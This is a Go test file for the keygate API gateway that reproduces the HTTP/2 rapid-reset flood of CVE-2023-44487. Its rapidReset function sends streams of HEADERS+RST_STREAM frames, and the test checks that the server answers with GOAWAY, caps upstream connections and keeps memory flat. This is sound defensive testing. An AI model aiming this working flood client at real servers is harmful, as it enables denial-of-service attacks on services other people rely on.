package server_test

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/keygate/keygate/config"
	"github.com/keygate/keygate/policy"
	"github.com/keygate/keygate/standin"
)

// countingListener counts the connections it accepts.
type countingListener struct {
	net.Listener
	accepted atomic.Int64
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.accepted.Add(1)
	}
	return c, err
}

// countedUpstream is a stand-in registry whose accepted connections and
// requests are counted.
func countedUpstream(t *testing.T) (*httptest.Server, *countingListener, *atomic.Int64) {
	t.Helper()
	var hits atomic.Int64
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		standin.Handler{Name: "registry"}.ServeHTTP(w, r)
	}))
	ln := &countingListener{Listener: srv.Listener}
	srv.Listener = ln
	srv.Start()
	t.Cleanup(srv.Close)
	return srv, ln, &hits
}

// attackResult is what one rapid-reset connection saw.
type attackResult struct {
	sent   int // HEADERS+RST_STREAM pairs written
	goAway *http2.GoAwayFrame
	err    error
}

// rapidReset opens one HTTP/2 connection to addr and sends up to n
// HEADERS+RST_STREAM pairs of GET path with key, until the server sends
// GOAWAY or the connection fails, within deadline. It reads every frame
// the server sends.
func rapidReset(addr string, cfg *tls.Config, path, key string, n int, deadline time.Time) attackResult {
	var res attackResult
	conn, err := tls.DialWithDialer(&net.Dialer{Deadline: deadline}, "tcp", addr, cfg)
	if err != nil {
		res.err = err
		return res
	}
	defer conn.Close()
	_ = conn.SetDeadline(deadline)
	if p := conn.ConnectionState().NegotiatedProtocol; p != "h2" {
		res.err = errors.New("negotiated " + strconv.Quote(p) + ", not h2")
		return res
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "localhost"}, {Name: ":path", Value: path},
		// Never indexed: each HEADERS repeats the same literal block.
		{Name: "x-api-key", Value: key, Sensitive: true},
	} {
		f.Sensitive = true
		_ = enc.WriteField(f)
	}
	bw := bufio.NewWriterSize(conn, 64<<10)
	fr := http2.NewFramer(bw, conn)
	got := make(chan *http2.GoAwayFrame, 1)
	acks := make(chan struct{}, 4)
	go func() {
		defer close(got)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				got <- f
				return
			case *http2.SettingsFrame:
				if !f.IsAck() {
					// The writer acknowledges it: the framer writes
					// from one goroutine only.
					select {
					case acks <- struct{}{}:
					default:
					}
				}
			}
		}
	}()
	_, _ = bw.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	var goAway *http2.GoAwayFrame
	done := false
	for i := 0; i < n && !done; i++ {
		id := uint32(2*i + 1)
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			break
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			break
		}
		res.sent++
		if i%64 == 63 {
			select {
			case <-acks:
				_ = fr.WriteSettingsAck()
			default:
			}
			if bw.Flush() != nil {
				break
			}
			select {
			case goAway = <-got:
				done = true
			default:
			}
		}
	}
	_ = bw.Flush()
	if goAway == nil {
		goAway = <-got // the reader ends at GOAWAY, an error or the deadline
	}
	res.goAway = goAway
	return res
}

func vmRSS(t *testing.T) int64 {
	t.Helper()
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Skipf("no /proc/self/status: %v", err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return kb << 10
		}
	}
	t.Fatal("no VmRSS")
	return 0
}

// TestHTTP2RapidReset is the rapid-reset attack of CVE-2023-44487 with a
// valid key: connections that open a stream and reset it at once, as
// fast as they can. Every connection must get GOAWAY ENHANCE_YOUR_CALM,
// the upstream must see no more connections than two per request the
// key may have in flight, and memory must stay flat.
func TestHTTP2RapidReset(t *testing.T) {
	// The acceptance figures: 12 connections of 20,000 resets. Under the
	// race detector (make test) each frame costs many times more: at
	// full size the in-process upstream, starved, can take longer than
	// the grace a cancelled request gives it (so its connection is
	// closed), and the detector's shadow memory makes RSS meaningless.
	// That run sends fewer and leaves memory to the plain run.
	conns, resets := 12, 20000
	if raceEnabled {
		conns, resets = 4, 3000
	}
	if testing.Short() {
		conns, resets = 2, 1500
	}
	up, accepted, hits := countedUpstream(t)
	h := newHarness(t, setup{mod: func(c *config.Config) {
		c.Upstreams.Registry.Targets = []string{up.URL}
		// No rate limit in the way: the concurrency cap is the only
		// bound on what reaches the upstream.
		c.RateLimit.Limits = map[string]policy.Limit{
			"live": {Rate: 1e6, Per: time.Second, Burst: 1e6},
			"test": {Rate: 1e6, Per: time.Second, Burst: 1e6},
		}
	}})
	maxConcurrent := h.Cfg.RateLimit.MaxConcurrent
	roots := poolFromFile(t, filepath.Join(h.Cfg.TLS.SelfSignedDir, "cert.pem"))
	addr := h.Server.APIAddr().String()
	cfg := &tls.Config{RootCAs: roots, ServerName: "localhost", NextProtos: []string{"h2"}}

	// A normal HTTP/2 request works, and warms the pools so that RSS
	// measures the attack, not the first request.
	if r := h.get(h.API, "/registry/schemas", keyCred(h.RegistryKey)); r.Status != 200 || r.Proto != 2 {
		t.Fatalf("warm-up: %d over HTTP/%d", r.Status, r.Proto)
	}
	runtime.GC()
	rssBefore := vmRSS(t)
	acceptedBefore := accepted.accepted.Load()

	start := time.Now()
	deadline := start.Add(60 * time.Second) // a hang check, not a timing
	results := make([]attackResult, conns)
	var wg sync.WaitGroup
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i] = rapidReset(addr, cfg, "/registry/schemas", h.RegistryKey, resets, deadline)
		}()
	}
	stopSample := make(chan struct{})
	var peakG int
	var peakHeap uint64
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		for {
			select {
			case <-stopSample:
				return
			case <-time.After(5 * time.Millisecond):
			}
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			peakG = max(peakG, runtime.NumGoroutine())
			peakHeap = max(peakHeap, ms.HeapInuse)
		}
	}()
	wg.Wait()
	close(stopSample)
	<-sampled
	elapsed := time.Since(start)
	rssAfter := vmRSS(t)

	sent := 0
	for i, r := range results {
		sent += r.sent
		switch {
		case r.err != nil:
			t.Errorf("connection %d: %v", i, r.err)
		case r.goAway == nil:
			t.Errorf("connection %d: no GOAWAY after %d resets", i, r.sent)
		case r.goAway.ErrCode != http2.ErrCodeEnhanceYourCalm:
			t.Errorf("connection %d: GOAWAY %v, want ENHANCE_YOUR_CALM", i, r.goAway.ErrCode)
		}
	}
	opened := accepted.accepted.Load() - acceptedBefore
	t.Logf("%d connections: %d HEADERS+RST_STREAM sent in %v; upstream: %d connections opened, %d requests; RSS %d → %d MiB; peak %d goroutines, heap %d MiB",
		conns, sent, elapsed.Round(time.Millisecond), opened, hits.Load(), rssBefore>>20, rssAfter>>20, peakG, peakHeap>>20)
	if limit := int64(2 * maxConcurrent); opened > limit {
		t.Errorf("the attack opened %d upstream connections, want at most %d (2 × max_concurrent %d)", opened, limit, maxConcurrent)
	}
	if grew := rssAfter - rssBefore; !raceEnabled && grew >= 20<<20 {
		t.Errorf("RSS grew by %d MiB during the attack, want less than 20", grew>>20)
	}
	if got := h.metric("keygate_http2_reset_floods_total"); got != float64(conns) {
		t.Errorf("keygate_http2_reset_floods_total = %v, want %d", got, conns)
	}

	// The server is still there for everyone else.
	if r := h.get(h.API, "/registry/schemas", keyCred(h.RegistryKey)); r.Status != 200 {
		t.Errorf("after the attack: %d", r.Status)
	}
}
